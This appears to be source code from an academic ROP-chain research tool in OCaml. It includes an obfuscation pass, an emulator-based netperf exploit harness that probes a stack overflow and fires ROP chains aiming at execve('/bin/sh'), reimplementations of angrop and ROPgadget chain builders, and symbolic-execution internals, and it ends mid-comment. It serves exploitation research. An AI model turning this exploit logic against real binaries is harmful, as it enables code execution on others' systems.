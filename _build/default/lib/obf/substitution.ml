(* Instruction substitution (paper §II-A(1)): replace arithmetic/bitwise
   operations with longer, equivalent sequences, as Obfuscator-LLVM's
   -mllvm -sub does.  All identities are exact on 64-bit two's-complement:

     a + b = a - (0 - b)
     a + b = (a ^ b) + 2*(a & b)
     a - b = a + (0 - b)
     a - b = (a ^ ~b) + 2*(a | ~b) + 2   -- not used; keep the cheap ones
     a ^ b = (~a & b) | (a & ~b)
     a & b = (a | b) - (a ^ b)
     a | b = (a & b) + (a ^ b)
*)

open Gp_ir

let bitnot _f v out = Ir.Bin (Ir.Xor, out, v, Ir.I (-1L))

(* Rewrite one Bin into an equivalent sequence (choosing randomly among
   applicable identities), or return it unchanged. *)
let substitute rng (f : Ir.func) (op : Ir.binop) d a b : Ir.instr list =
  let t () = Ir.fresh_temp f in
  match op with
  | Ir.Add ->
    if Gp_util.Rng.bool rng then begin
      (* a - (0 - b) *)
      let nb = t () in
      [ Ir.Bin (Ir.Sub, nb, Ir.I 0L, b); Ir.Bin (Ir.Sub, d, a, Ir.T nb) ]
    end
    else begin
      (* (a ^ b) + 2*(a & b) *)
      let x = t () and n = t () and n2 = t () in
      [ Ir.Bin (Ir.Xor, x, a, b);
        Ir.Bin (Ir.And, n, a, b);
        Ir.Bin (Ir.Shl, n2, Ir.T n, Ir.I 1L);
        Ir.Bin (Ir.Add, d, Ir.T x, Ir.T n2) ]
    end
  | Ir.Sub ->
    (* a + (0 - b) *)
    let nb = t () in
    [ Ir.Bin (Ir.Sub, nb, Ir.I 0L, b); Ir.Bin (Ir.Add, d, a, Ir.T nb) ]
  | Ir.Xor ->
    (* (~a & b) | (a & ~b) *)
    let na = t () and nb = t () and l = t () and r = t () in
    [ bitnot f a na;
      Ir.Bin (Ir.And, l, Ir.T na, b);
      bitnot f b nb;
      Ir.Bin (Ir.And, r, a, Ir.T nb);
      Ir.Bin (Ir.Or, d, Ir.T l, Ir.T r) ]
  | Ir.And ->
    (* (a | b) - (a ^ b) *)
    let o = t () and x = t () in
    [ Ir.Bin (Ir.Or, o, a, b);
      Ir.Bin (Ir.Xor, x, a, b);
      Ir.Bin (Ir.Sub, d, Ir.T o, Ir.T x) ]
  | Ir.Or ->
    (* (a & b) + (a ^ b) *)
    let n = t () and x = t () in
    [ Ir.Bin (Ir.And, n, a, b);
      Ir.Bin (Ir.Xor, x, a, b);
      Ir.Bin (Ir.Add, d, Ir.T n, Ir.T x) ]
  | Ir.Mul | Ir.Shl | Ir.Shr | Ir.Sar -> [ Ir.Bin (op, d, a, b) ]

let run ?(prob = 0.6) ?(rounds = 1) rng (prog : Ir.program) =
  let round () =
    List.iter
      (fun (f : Ir.func) ->
        List.iter
          (fun (blk : Ir.block) ->
            blk.Ir.b_instrs <-
              List.concat_map
                (fun i ->
                  match i with
                  | Ir.Bin ((Ir.Add | Ir.Sub | Ir.Xor | Ir.And | Ir.Or) as op, d, a, b)
                    when Gp_util.Rng.flip rng prob ->
                    substitute rng f op d a b
                  | _ -> [ i ])
                blk.Ir.b_instrs)
          f.Ir.f_blocks)
      prog.Ir.p_funcs
  in
  for _ = 1 to rounds do round () done;
  prog
