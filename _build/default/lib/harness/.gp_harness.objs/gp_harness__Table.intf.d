lib/harness/table.mli:
