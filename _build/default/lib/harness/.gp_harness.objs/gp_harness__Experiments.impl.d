lib/harness/experiments.ml: Buffer Gc Gp_baselines Gp_codegen Gp_core Gp_corpus Gp_obf Hashtbl List Netperf_attack Printf Table Unix Workspace
