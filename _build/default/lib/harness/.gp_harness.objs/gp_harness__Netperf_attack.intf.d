lib/harness/netperf_attack.mli: Gp_core Gp_util Workspace
