lib/harness/cfi_study.mli: Gp_corpus Gp_obf
