lib/harness/workspace.mli: Gp_core Gp_corpus Gp_obf Gp_util Hashtbl
