lib/harness/netperf_attack.ml: Array Fun Gp_core Gp_corpus Gp_emu Gp_util Int64 List Workspace
