lib/harness/workspace.ml: Gp_codegen Gp_core Gp_corpus Gp_obf Gp_util Gp_x86 Hashtbl List String
