lib/harness/cfi_study.ml: Gp_codegen Gp_corpus Gp_emu Gp_obf Gp_util List Table Workspace
