(* The netperf case study (paper §VI-C, Fig. 8): exploit the break_args
   stack overflow END TO END.

   1. PROBE: feed a marker pattern through the vulnerable copy and watch
      where the program crashes — this recovers both how many words of
      filler reach the saved return address, and that cell's absolute
      address (classic cyclic-pattern exploitation practice).
   2. PLAN: point the payload layout at the probed address and run
      Gadget-Planner over the binary.
   3. FIRE: write [length; filler...; payload...] into the option-argument
      area and run the program from _start.  Success = the emulator halts
      in the goal syscall with the goal arguments. *)

let marker_tag = 0x6d61726b00000000L   (* "mark" *)

type probe = {
  filler_words : int;     (* words copied before the return-address cell *)
  ret_cell : int64;       (* absolute address of the smashed cell *)
}

let write_input m (words : int64 list) =
  List.iteri
    (fun i w ->
      Gp_emu.Memory.write64 m.Gp_emu.Machine.mem
        (Int64.add Gp_corpus.Netperf.input_area (Int64.of_int (8 * i)))
        w)
    words

let probe (image : Gp_util.Image.t) : probe option =
  let m = Gp_emu.Machine.create image in
  let n = 64 in
  write_input m
    (Int64.of_int n
    :: List.init n (fun i -> Int64.logor marker_tag (Int64.of_int i)));
  match Gp_emu.Machine.run ~fuel:10_000_000 m with
  | Gp_emu.Machine.Fault _ ->
    let rip = m.Gp_emu.Machine.rip in
    if Int64.logand rip 0xffffffff00000000L = marker_tag then
      Some
        { filler_words = Int64.to_int (Int64.logand rip 0xffffffffL);
          (* the faulting ret has already popped the cell *)
          ret_cell = Int64.sub (Gp_emu.Machine.rsp m) 8L }
    else None
  | _ -> None

type result = {
  probe : probe;
  chains : Gp_core.Payload.chain list;   (* end-to-end confirmed *)
  attempted : int;
}

(* Deliver one chain through the vulnerability; true when the goal fires. *)
let fire (image : Gp_util.Image.t) (pr : probe) (c : Gp_core.Payload.chain) : bool =
  let m = Gp_emu.Machine.create image in
  let payload = Array.to_list c.Gp_core.Payload.c_payload in
  let words =
    Int64.of_int (pr.filler_words + List.length payload)
    :: List.init pr.filler_words (fun _ -> 0x4242424242424242L)
    @ payload
  in
  write_input m words;
  let outcome = Gp_emu.Machine.run ~fuel:20_000_000 m in
  Gp_core.Goal.satisfied c.Gp_core.Payload.c_goal outcome

let run ?(planner_config = Workspace.gp_planner_config)
    ?(goal = Gp_core.Goal.Execve "/bin/sh") (b : Workspace.built) :
    result option =
  match probe b.Workspace.image with
  | None -> None
  | Some pr ->
    let finally () = Gp_core.Layout.reset () in
    Fun.protect ~finally (fun () ->
        Gp_core.Layout.set_payload_base pr.ret_cell;
        let o = Gp_core.Api.run_with_analysis ~planner_config b.Workspace.analysis goal in
        let confirmed =
          List.filter (fire b.Workspace.image pr) o.Gp_core.Api.chains
        in
        Some
          { probe = pr;
            chains = confirmed;
            attempted = List.length o.Gp_core.Api.chains })
