(** CFI-infeasibility study (supports the threat model, paper §III-A):
    classic entry-only forward-edge CFI applied to BENIGN runs.  Original
    programs make no indirect transfers; obfuscated programs dispatch
    through jump tables whose targets are basic blocks — every transfer
    is a false positive, so a deployed CFI monitor would kill the
    legitimate program. *)

type row = {
  cfi_program : string;
  cfi_config : string;
  cfi_transfers : int;      (** indirect transfers executed *)
  cfi_violations : int;     (** flagged by the entry-only policy *)
}

val run_one : Gp_corpus.Programs.entry -> string * Gp_obf.Obf.config -> row

val study :
  ?entries:Gp_corpus.Programs.entry list -> unit -> string * row list
(** Rendered table + rows for the default program subset under the three
    standard configurations. *)
