(** Plain-text table rendering for the experiment reports. *)

type t

val create : title:string -> header:string list -> t
val add_row : t -> string list -> unit
val render : t -> string
val print : t -> unit

val fmt_int : int -> string
val fmt_f1 : float -> string
val fmt_pct : float -> string
