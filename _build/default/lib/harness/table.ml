(* Plain-text table rendering for the experiment reports. *)

type t = {
  title : string;
  header : string list;
  mutable rows : string list list;   (* reversed *)
}

let create ~title ~header = { title; header; rows = [] }

let add_row t row = t.rows <- row :: t.rows

let render t =
  let rows = List.rev t.rows in
  let all = t.header :: rows in
  let ncols = List.fold_left (fun acc r -> max acc (List.length r)) 0 all in
  let width c =
    List.fold_left
      (fun acc row ->
        match List.nth_opt row c with
        | Some cell -> max acc (String.length cell)
        | None -> acc)
      0 all
  in
  let widths = List.init ncols width in
  let buf = Buffer.create 512 in
  Buffer.add_string buf ("== " ^ t.title ^ " ==\n");
  let render_row row =
    List.iteri
      (fun c w ->
        let cell = match List.nth_opt row c with Some s -> s | None -> "" in
        Buffer.add_string buf cell;
        Buffer.add_string buf (String.make (w - String.length cell + 2) ' '))
      widths;
    Buffer.add_char buf '\n'
  in
  render_row t.header;
  Buffer.add_string buf (String.make (List.fold_left ( + ) 0 widths + 2 * ncols) '-');
  Buffer.add_char buf '\n';
  List.iter render_row rows;
  Buffer.contents buf

let print t = print_string (render t)

(* helpers *)
let fmt_int = string_of_int
let fmt_f1 v = Printf.sprintf "%.1f" v
let fmt_pct v = Printf.sprintf "%.0f%%" v
