lib/baselines/angrop.mli: Gp_core Gp_util Report
