lib/baselines/sgc.mli: Gp_core Gp_util Report
