lib/baselines/ropgadget.ml: Gp_core Gp_symx Gp_util Gp_x86 Insn List Option Reg Report Unix
