lib/baselines/report.mli: Gp_core
