lib/baselines/ropgadget.mli: Gp_core Gp_util Report
