lib/baselines/sgc.ml: Gp_core Gp_util Gp_x86 Hashtbl List Report Unix
