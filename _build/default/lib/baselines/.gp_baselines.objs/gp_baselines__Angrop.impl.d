lib/baselines/angrop.ml: Gp_core Gp_symx Gp_util List Option Report Unix
