lib/baselines/report.ml: Gp_core List
