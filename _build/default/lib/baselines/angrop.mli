(** Angrop-style baseline (paper §II-B "Symbolic Execution"): gadgets are
    recognized semantically, but only SIMPLE ret-gadgets qualify
    (unconditional, no memory traffic, no pre-conditions); chaining is
    greedy — one shortest setter per register, clobber-compatible order,
    then a pass-through syscall.  At most one chain per goal: "all gadget
    chains constructed by Angrop share identical patterns". *)

val name : string

val simple : Gp_core.Gadget.t -> bool
(** The gadget filter described above. *)

val simple_syscall : Gp_core.Gadget.t -> bool
(** Syscall gadgets whose argument registers pass through unchanged. *)

val run :
  ?pool:Gp_core.Gadget.t list -> Gp_util.Image.t -> Gp_core.Goal.t -> Report.t
(** [pool] reuses an existing harvest (so comparisons share extraction). *)
