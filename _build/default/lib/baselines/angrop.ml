(* Angrop-style baseline (paper §II-B "Symbolic Execution").

   Faithful to the tool's strategy: gadgets are recognized SEMANTICALLY
   (symbolic execution, so `pop rdx; pop r11; ret` counts as an rdx
   setter even though no literal `pop rdx; ret` exists) — but only
   SIMPLE ret-gadgets qualify: unconditional, no memory traffic, no
   pre-conditions.  Chaining is greedy (`set_regs`): one shortest setter
   per register, ordered so later setters don't clobber earlier targets,
   then a syscall.  At most one chain per goal — "all gadget chains
   constructed by Angrop share identical patterns". *)

let name = "angrop"

let simple (g : Gp_core.Gadget.t) =
  g.Gp_core.Gadget.kind = Gp_core.Gadget.Return
  && g.Gp_core.Gadget.pre = []
  && g.Gp_core.Gadget.mem_reads = []
  && g.Gp_core.Gadget.ptr_writes = []
  && g.Gp_core.Gadget.stack_writes = []
  && (match g.Gp_core.Gadget.stack_delta with
      | Gp_core.Gadget.Sdelta d -> d >= 8 && d <= 0x88
      | _ -> false)

(* A syscall gadget is acceptable when the argument registers pass
   through unchanged (angrop jumps to a bare `syscall`). *)
let simple_syscall (g : Gp_core.Gadget.t) =
  match g.Gp_core.Gadget.syscall_state with
  | None -> false
  | Some sys ->
    g.Gp_core.Gadget.pre = []
    && List.for_all
         (fun (r, t) -> t = Gp_symx.State.reg_var r)
         sys

let rec permutations = function
  | [] -> [ [] ]
  | l ->
    List.concat_map
      (fun x ->
        List.map (fun rest -> x :: rest) (permutations (List.filter (( <> ) x) l)))
      l

let run ?(pool : Gp_core.Gadget.t list option) (image : Gp_util.Image.t)
    (goal : Gp_core.Goal.t) : Report.t =
  let t0 = Unix.gettimeofday () in
  let gadgets =
    match pool with Some g -> g | None -> Gp_core.Extract.harvest image
  in
  let usable = List.filter simple gadgets in
  let syscalls = List.filter simple_syscall gadgets in
  let t1 = Unix.gettimeofday () in
  let concrete = Gp_core.Goal.concretize image goal in
  let chains =
    if concrete.Gp_core.Goal.mem <> [] then []   (* no write-what-where *)
    else begin
      (* shortest setter per register *)
      let setter r =
        List.filter
          (fun (g : Gp_core.Gadget.t) -> List.mem_assoc r g.Gp_core.Gadget.controlled)
          usable
        |> List.sort (fun (a : Gp_core.Gadget.t) b ->
               compare a.Gp_core.Gadget.len b.Gp_core.Gadget.len)
        |> function [] -> None | g :: _ -> Some g
      in
      let needed = concrete.Gp_core.Goal.regs in
      let setters = List.map (fun (r, v) -> (r, v, setter r)) needed in
      if List.exists (fun (_, _, s) -> s = None) setters || syscalls = [] then []
      else begin
        let setters = List.map (fun (r, v, s) -> (r, v, Option.get s)) setters in
        (* find an order where no later setter clobbers an earlier target *)
        let ok_order order =
          let rec check done_ = function
            | [] -> true
            | (r, _, (g : Gp_core.Gadget.t)) :: rest ->
              if List.exists (fun r' -> List.mem r' g.Gp_core.Gadget.clobbered) done_
              then false
              else check (r :: done_) rest
          in
          check [] order
        in
        match List.find_opt ok_order (permutations setters) with
        | None -> []
        | Some order -> (
          let goal_step =
            List.find_map
              (fun g -> Gp_core.Plan.instantiate_goal g concrete ~sid:0)
              (List.filteri (fun i _ -> i < 4) syscalls)
          in
          let steps =
            List.mapi
              (fun i (r, v, g) ->
                Gp_core.Plan.instantiate_for g (Gp_core.Plan.Creg (r, v)) ~sid:(i + 1))
              order
          in
          match goal_step with
          | Some s0 when List.for_all Option.is_some steps ->
            let steps = List.map Option.get steps in
            let n = List.length steps in
            let orderings =
              List.init (n - 1) (fun i -> (i + 1, i + 2)) @ [ (n, 0) ]
            in
            let plan =
              { Gp_core.Plan.steps = s0 :: steps;
                orderings;
                links = [];
                open_conds = [];
                next_sid = n + 1 }
            in
            (match Gp_core.Payload.build_opt plan concrete with
             | Some c when Gp_core.Payload.validate image c -> [ c ]
             | _ -> [])
          | _ -> [])
      end
    end
  in
  { Report.tool = name;
    pool_total = List.length gadgets;
    chains;
    gadget_time = t1 -. t0;
    chain_time = Unix.gettimeofday () -. t1 }
