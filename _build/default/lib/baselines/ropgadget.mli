(** ROPGadget-style baseline (paper §II-B "Pattern Matching"): purely
    SYNTACTIC gadget discovery plus a hard-coded execve-only chain
    template (the real tool's --ropchain) — one pop-run per argument
    register and a syscall, with the "/bin/sh" string taken from the
    binary.  Any missing template slot fails the whole build. *)

val name : string

val run : Gp_util.Image.t -> Gp_core.Goal.t -> Report.t
(** Returns 0 chains for non-execve goals, and at most one (validated)
    execve chain. *)
