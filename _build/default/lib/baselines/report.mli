(** Common result shape for the three peer tools (paper §II-B), so the
    comparison tables treat all four systems uniformly. *)

type t = {
  tool : string;
  pool_total : int;                         (** gadgets collected *)
  chains : Gp_core.Payload.chain list;      (** validated chains *)
  gadget_time : float;
  chain_time : float;
}

val chain_count : t -> int

val avg_gadget_len : t -> float
(** Mean instructions per chain gadget (0 when no chains). *)

val avg_chain_len : t -> float
(** Mean instructions per chain. *)

val kind_percentages : t -> float * float * float * float
(** (Ret, IJ, DJ, CJ) percentages across chain steps, in the paper's
    Table V sense. *)
