(* Common result shape for the three peer tools (paper §II-B), so the
   comparison tables can treat all four systems uniformly. *)

type t = {
  tool : string;
  pool_total : int;                       (* gadgets collected *)
  chains : Gp_core.Payload.chain list;    (* validated chains *)
  gadget_time : float;
  chain_time : float;
}

let chain_count r = List.length r.chains

(* Average gadget length (instructions) and chain length across chains. *)
let avg_gadget_len r =
  let lens =
    List.concat_map
      (fun (c : Gp_core.Payload.chain) ->
        List.map
          (fun (s : Gp_core.Plan.step) -> s.Gp_core.Plan.gadget.Gp_core.Gadget.len)
          c.Gp_core.Payload.c_steps)
      r.chains
  in
  if lens = [] then 0.
  else float_of_int (List.fold_left ( + ) 0 lens) /. float_of_int (List.length lens)

let avg_chain_len r =
  let lens =
    List.map
      (fun (c : Gp_core.Payload.chain) ->
        List.fold_left
          (fun acc (s : Gp_core.Plan.step) ->
            acc + s.Gp_core.Plan.gadget.Gp_core.Gadget.len)
          0 c.Gp_core.Payload.c_steps)
      r.chains
  in
  if lens = [] then 0.
  else float_of_int (List.fold_left ( + ) 0 lens) /. float_of_int (List.length lens)

(* Percentage of each gadget kind across all chain steps. *)
let kind_percentages r =
  let kinds =
    List.concat_map
      (fun (c : Gp_core.Payload.chain) ->
        List.map
          (fun (s : Gp_core.Plan.step) -> s.Gp_core.Plan.gadget.Gp_core.Gadget.kind)
          c.Gp_core.Payload.c_steps)
      r.chains
  in
  let total = max 1 (List.length kinds) in
  let pct p = 100. *. float_of_int (List.length (List.filter p kinds)) /. float_of_int total in
  (* Ret / IJ / DJ / CJ in the paper's Table V sense *)
  ( pct (fun k -> k = Gp_core.Gadget.Return || k = Gp_core.Gadget.Sys),
    pct (fun k -> k = Gp_core.Gadget.UIJ),
    pct (fun k -> k = Gp_core.Gadget.UDJ),
    pct (fun k -> k = Gp_core.Gadget.CDJ || k = Gp_core.Gadget.CIJ) )
