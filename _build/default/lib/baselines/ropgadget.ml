(* ROPGadget-style baseline (paper §II-B "Pattern Matching").

   Faithful to the tool's strategy:
   - gadget discovery is purely SYNTACTIC: slide a decoder, keep short
     runs ending in ret;
   - chain building is a hard-coded TEMPLATE for execve only (the real
     tool's --ropchain): one pop-run per argument register plus a syscall,
     junk-padding extra pops, with the "/bin/sh" string taken from the
     binary.  If any template slot has no matching pattern, the whole
     build fails — exactly the brittleness the paper demonstrates. *)

open Gp_x86

let name = "ropgadget"

(* A "pop-run" for [r]: pop r; (pop junk;)* ret — with nothing else. *)
let is_pop_run_for (r : Reg.t) (insns : Insn.t list) =
  match insns with
  | Insn.Pop r0 :: rest when r0 = r ->
    let rec tail = function
      | [ Insn.Ret ] -> true
      | Insn.Pop _ :: rest -> tail rest
      | _ -> false
    in
    List.length insns <= 9 && tail rest
  | _ -> false

let is_syscall_start (insns : Insn.t list) =
  match insns with Insn.Syscall :: _ -> true | _ -> false

let find_pattern (raws : Gp_core.Extract.raw list) p =
  List.find_opt (fun (r : Gp_core.Extract.raw) -> p r.Gp_core.Extract.raw_insns) raws

(* Build the tool's execve template as a plan over symbolically summarized
   copies of the pattern-matched gadgets (the summaries are only used to
   emit and validate the payload; selection was purely syntactic). *)
let gadget_at image addr =
  match Gp_symx.Exec.summarize image addr with
  | s :: _ -> Some (Gp_core.Gadget.of_summary s)
  | [] -> None

let run (image : Gp_util.Image.t) (goal : Gp_core.Goal.t) : Report.t =
  let t0 = Unix.gettimeofday () in
  let raws = Gp_core.Extract.raw_scan image in
  let rets =
    List.filter
      (fun (r : Gp_core.Extract.raw) ->
        r.Gp_core.Extract.raw_kind = Gp_core.Gadget.Return
        && List.length r.Gp_core.Extract.raw_insns <= 10)
      raws
  in
  let t1 = Unix.gettimeofday () in
  let chains =
    match goal with
    | Gp_core.Goal.Mprotect _ | Gp_core.Goal.Mmap _ ->
      (* ROPGadget's chain generator only knows execve *)
      []
    | Gp_core.Goal.Execve _ -> (
      let concrete = Gp_core.Goal.concretize image goal in
      if concrete.Gp_core.Goal.mem <> [] then
        (* template has no write-what-where; needs the string in-binary *)
        []
      else begin
        let find r = find_pattern rets (is_pop_run_for r) in
        let syscall_g = find_pattern raws is_syscall_start in
        match find Reg.RAX, find Reg.RDI, find Reg.RSI, find Reg.RDX, syscall_g with
        | Some g_rax, Some g_rdi, Some g_rsi, Some g_rdx, Some g_sys -> (
          (* instantiate each template slot and assemble the plan *)
          let mk i (raw : Gp_core.Extract.raw) cond =
            Option.bind (gadget_at image raw.Gp_core.Extract.raw_addr) (fun g ->
                Gp_core.Plan.instantiate_for g cond ~sid:i)
          in
          let regs = concrete.Gp_core.Goal.regs in
          let v r = List.assoc r regs in
          let goal_step =
            Option.bind (gadget_at image g_sys.Gp_core.Extract.raw_addr) (fun g ->
                Gp_core.Plan.instantiate_goal g concrete ~sid:0)
          in
          match
            ( goal_step,
              mk 1 g_rax (Gp_core.Plan.Creg (Reg.RAX, v Reg.RAX)),
              mk 2 g_rdi (Gp_core.Plan.Creg (Reg.RDI, v Reg.RDI)),
              mk 3 g_rsi (Gp_core.Plan.Creg (Reg.RSI, v Reg.RSI)),
              mk 4 g_rdx (Gp_core.Plan.Creg (Reg.RDX, v Reg.RDX)) )
          with
          | Some s0, Some s1, Some s2, Some s3, Some s4 ->
            let plan =
              { Gp_core.Plan.steps = [ s0; s1; s2; s3; s4 ];
                orderings = [ (1, 2); (2, 3); (3, 4); (4, 0) ];
                links = [];
                open_conds = [];
                next_sid = 5 }
            in
            (match Gp_core.Payload.build_opt plan concrete with
             | Some c when Gp_core.Payload.validate image c -> [ c ]
             | _ -> [])
          | _ -> [])
        | _ -> []
      end)
  in
  { Report.tool = name;
    pool_total = List.length rets;
    chains;
    gadget_time = t1 -. t0;
    chain_time = Unix.gettimeofday () -. t1 }
