lib/symx/exec.ml: Decode Formula Gp_smt Gp_util Gp_x86 Insn Int64 List Option Printf Reg State Term
