lib/symx/state.mli: Formula Gp_smt Gp_x86 Map Term
