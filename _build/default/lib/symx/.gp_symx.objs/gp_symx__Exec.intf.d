lib/symx/exec.mli: Formula Gp_smt Gp_util Gp_x86 State Term
