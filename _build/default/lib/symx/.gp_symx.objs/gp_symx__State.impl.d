lib/symx/state.ml: Array Formula Gp_smt Gp_x86 Insn Int Int64 List Map Option Printf Reg String Term
