(* Symbolic machine state for gadget summarization.

   Naming is deterministic and canonical (paper Table II / §IV-B):
   - "rax_0", "rbx_0", ... are the register values at gadget entry;
   - "stk_<o>" (or "stk_m<o>" for negative o) is the 8-byte stack slot at
     [rsp0 + o] — the attacker-controlled payload area;
   - "mem<n>" are values read through non-stack pointers, which also add
     a Readable POINTER pre-condition.

   Because two gadgets with the same behaviour produce structurally equal
   terms under this scheme, semantic comparison (subsumption) reduces to
   term comparison plus solver entailment. *)

open Gp_x86
open Gp_smt

module Imap = Map.Make (Int)

(* What the last flag-setting instruction was, for Jcc conditions. *)
type flag_src =
  | Fsub of Term.t * Term.t      (* cmp/sub a, b *)
  | Flogic of Term.t             (* and/or/xor/test/shift result *)
  | Farith of Term.t             (* add/inc/dec/neg result: SF/ZF exact, CF/OF approximated *)
  | Funknown

type t = {
  regs : Term.t array;                   (* 16, indexed by Reg.number *)
  stack : Term.t Imap.t;                 (* offset from rsp0 -> value *)
  stack_writes : (int * Term.t) list;    (* in write order, latest last *)
  path : Formula.t list;                 (* accumulated pre-conditions *)
  flags : flag_src;
  fresh : int;                           (* counter for mem reads *)
  insns : Insn.t list;                   (* executed instructions, reversed *)
  syscalls : (Reg.t * Term.t) list list; (* register state at each syscall *)
  consumed : int list;                   (* stack offsets read before write *)
  ptr_writes : (Term.t * Term.t) list;   (* non-stack writes: (addr, value) *)
  mem_reads : (string * Term.t * bool) list;
    (* mem var name, address term, RELIABLE flag: an unreliable read may
       alias an earlier write of this gadget, so its value cannot be
       treated as attacker-controlled *)
  alias_hazard : bool;                   (* some read was unreliable *)
}

let reg_var r = Term.var (Reg.name r ^ "_0")

let slot_var off =
  if off >= 0 then Term.var (Printf.sprintf "stk_%d" off)
  else Term.var (Printf.sprintf "stk_m%d" (-off))

(* Offset encoded in a slot variable name, if it is one. *)
let slot_of_var name =
  if String.length name > 4 && String.sub name 0 4 = "stk_" then begin
    let rest = String.sub name 4 (String.length name - 4) in
    if String.length rest > 1 && rest.[0] = 'm' then
      int_of_string_opt (String.sub rest 1 (String.length rest - 1))
      |> Option.map (fun n -> -n)
    else int_of_string_opt rest
  end
  else None

let initial () =
  { regs = Array.init 16 (fun i -> reg_var (Reg.of_number i));
    stack = Imap.empty;
    stack_writes = [];
    path = [];
    flags = Funknown;
    fresh = 0;
    insns = [];
    syscalls = [];
    consumed = [];
    ptr_writes = [];
    mem_reads = [];
    alias_hazard = false }

let reg t r = t.regs.(Reg.number r)

let set_reg t r v =
  let regs = Array.copy t.regs in
  regs.(Reg.number r) <- Term.simplify v;
  { t with regs }

let assume t f = { t with path = Formula.simplify f :: t.path }

(* The current rsp as a concrete offset from rsp0, when it is one. *)
let rsp_offset t =
  match Term.linearize (reg t Reg.RSP) with
  | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
    Some (Int64.to_int c)
  | _ -> None

(* Classify an address term: a stack slot offset, or an arbitrary pointer. *)
type addr_class = Stack of int | Pointer of Term.t

let classify_addr addr =
  match Term.linearize addr with
  | Some { Term.lin_const = c; lin_terms = [ (v, 1L) ] } when v = "rsp_0" ->
    Stack (Int64.to_int c)
  | _ -> Pointer addr

exception Unsupported of string

(* Read 8 bytes at a symbolic address. *)
let read_mem t addr =
  match classify_addr addr with
  | Stack off -> (
    match Imap.find_opt off t.stack with
    | Some v -> (t, v)
    | None ->
      let v = slot_var off in
      ({ t with stack = Imap.add off v t.stack; consumed = off :: t.consumed }, v))
  | Pointer a -> (
    (* store-forwarding over pointer memory: scan earlier pointer writes,
       newest first.  Two accesses at a CONSTANT address distance >= 8 are
       disjoint (all code uses 8-byte cells); a non-constant distance
       means we cannot decide aliasing — the summary is marked hazardous
       and dropped (validation-first: better to lose a gadget than emit a
       wrong chain).  Stack-class and pointer-class accesses are layout-
       disjoint by the separation argument in Layout. *)
    let rec forward = function
      | [] -> `Fresh
      | (a', v') :: older -> (
        match Term.linearize (Term.sub a a') with
        | Some { Term.lin_const = 0L; lin_terms = [] } -> `Hit v'
        | Some { Term.lin_const = c; lin_terms = [] }
          when Int64.abs c >= 8L -> forward older
        | _ -> `Hazard)
    in
    match forward (List.rev t.ptr_writes) with
    | `Hit v -> (t, v)
    | `Hazard ->
      let name = Printf.sprintf "mem%d" t.fresh in
      let v = Term.var name in
      let t =
        { t with
          fresh = t.fresh + 1;
          mem_reads = (name, a, false) :: t.mem_reads;
          alias_hazard = true }
      in
      (assume t (Formula.Readable a), v)
    | `Fresh ->
      let name = Printf.sprintf "mem%d" t.fresh in
      let v = Term.var name in
      let t =
        { t with fresh = t.fresh + 1; mem_reads = (name, a, true) :: t.mem_reads }
      in
      (assume t (Formula.Readable a), v))

let write_mem t addr value =
  let value = Term.simplify value in
  match classify_addr addr with
  | Stack off ->
    { t with
      stack = Imap.add off value t.stack;
      stack_writes = t.stack_writes @ [ (off, value) ] }
  | Pointer a ->
    (* non-stack write: requires a writable pointer; tracked so the
       planner can use this gadget for write-what-where *)
    let t = { t with ptr_writes = t.ptr_writes @ [ (a, value) ] } in
    assume t (Formula.Writable a)

(* The set of stack offsets whose initial content was READ (i.e. the
   payload cells this gadget consumes). *)
let consumed_slots t = List.sort_uniq compare t.consumed
