lib/smt/formula.mli: Term
