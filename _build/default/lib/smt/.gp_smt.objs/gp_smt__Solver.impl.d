lib/smt/solver.ml: Formula Gp_util Int64 List Map Option String Term
