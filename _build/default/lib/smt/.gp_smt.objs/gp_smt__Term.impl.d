lib/smt/term.ml: Int64 List Option Printf Set String
