lib/smt/solver.mli: Formula Gp_util Map Term
