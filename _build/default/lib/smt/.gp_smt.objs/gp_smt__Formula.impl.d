lib/smt/formula.ml: Int64 Printf Term
