lib/smt/term.mli: Set
