(** 64-bit bit-vector terms.

    Stands in for Z3's bit-vector theory (DESIGN.md §2).  Variables are
    identified by NAME: the symbolic executor uses a deterministic naming
    scheme (["rax_0"] for the initial value of rax, ["stk_16"] for the
    stack slot at rsp0+16), so post-conditions of two different gadgets
    with the same behaviour are structurally identical terms — the basis
    of cheap subsumption testing.

    {!simplify} canonicalizes the LINEAR fragment (sums of variables with
    constant coefficients, mod 2{^64}) exactly; gadget semantics are
    overwhelmingly linear, so semantic equality is decidable by
    structural comparison there. *)

type t =
  | Var of string
  | Const of int64
  | Add of t * t
  | Sub of t * t
  | Mul of t * t
  | Neg of t
  | Not of t
  | And of t * t
  | Or of t * t
  | Xor of t * t
  | Shl of t * t
  | Shr of t * t      (** logical right shift *)
  | Sar of t * t      (** arithmetic right shift *)

val to_string : t -> string

module Vset : Set.S with type elt = string

val vars : t -> Vset.t
(** The variables occurring in the term. *)

val vars_fold : ('a -> string -> 'a) -> 'a -> t -> 'a

val size : t -> int
(** Node count. *)

(** {1 Linear normal form} *)

type linear = { lin_const : int64; lin_terms : (string * int64) list }
(** [lin_const + Σ coeff·var], terms sorted by variable name, no zero
    coefficients; arithmetic is mod 2{^64}. *)

val lin_const : int64 -> linear
val lin_add : linear -> linear -> linear
val lin_scale : int64 -> linear -> linear
val lin_neg : linear -> linear

val linearize : t -> linear option
(** View the term as a linear combination, when it is one.  [Not x] is
    linear ([-x - 1]); [Shl x (Const k)] is [2^k · x]. *)

val of_linear : linear -> t
(** Canonical term for a linear form. *)

(** {1 Construction and simplification} *)

val simplify : t -> t
(** Bottom-up canonicalization: exact on the linear fragment, local
    identities elsewhere ([x^x = 0], [x&x = x], constant folding...).
    Sound: the result evaluates identically under every model. *)

val var : string -> t
val const : int64 -> t

(** Smart constructors (simplify on the way in): *)

val add : t -> t -> t
val sub : t -> t -> t
val mul : t -> t -> t
val neg : t -> t
val lognot : t -> t
val logand : t -> t -> t
val logor : t -> t -> t
val logxor : t -> t -> t
val shl : t -> t -> t
val shr : t -> t -> t
val sar : t -> t -> t

val equal : t -> t -> bool
(** Structural equality after canonicalization (complete on the linear
    fragment; sound but incomplete elsewhere — see
    {!Solver.prove_equal}). *)

val subst : (string -> t option) -> t -> t
(** Replace variables via the function; unmapped variables stay. *)

val eval : (string -> int64) -> t -> int64
(** Concrete evaluation under a valuation.  Shift counts are taken
    mod 64, as on hardware. *)
