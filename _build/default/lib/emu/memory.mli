(** Flat emulated memory: contiguous regions (code, data, stack, scratch)
    with byte granularity.  Code is writable — real processes can be
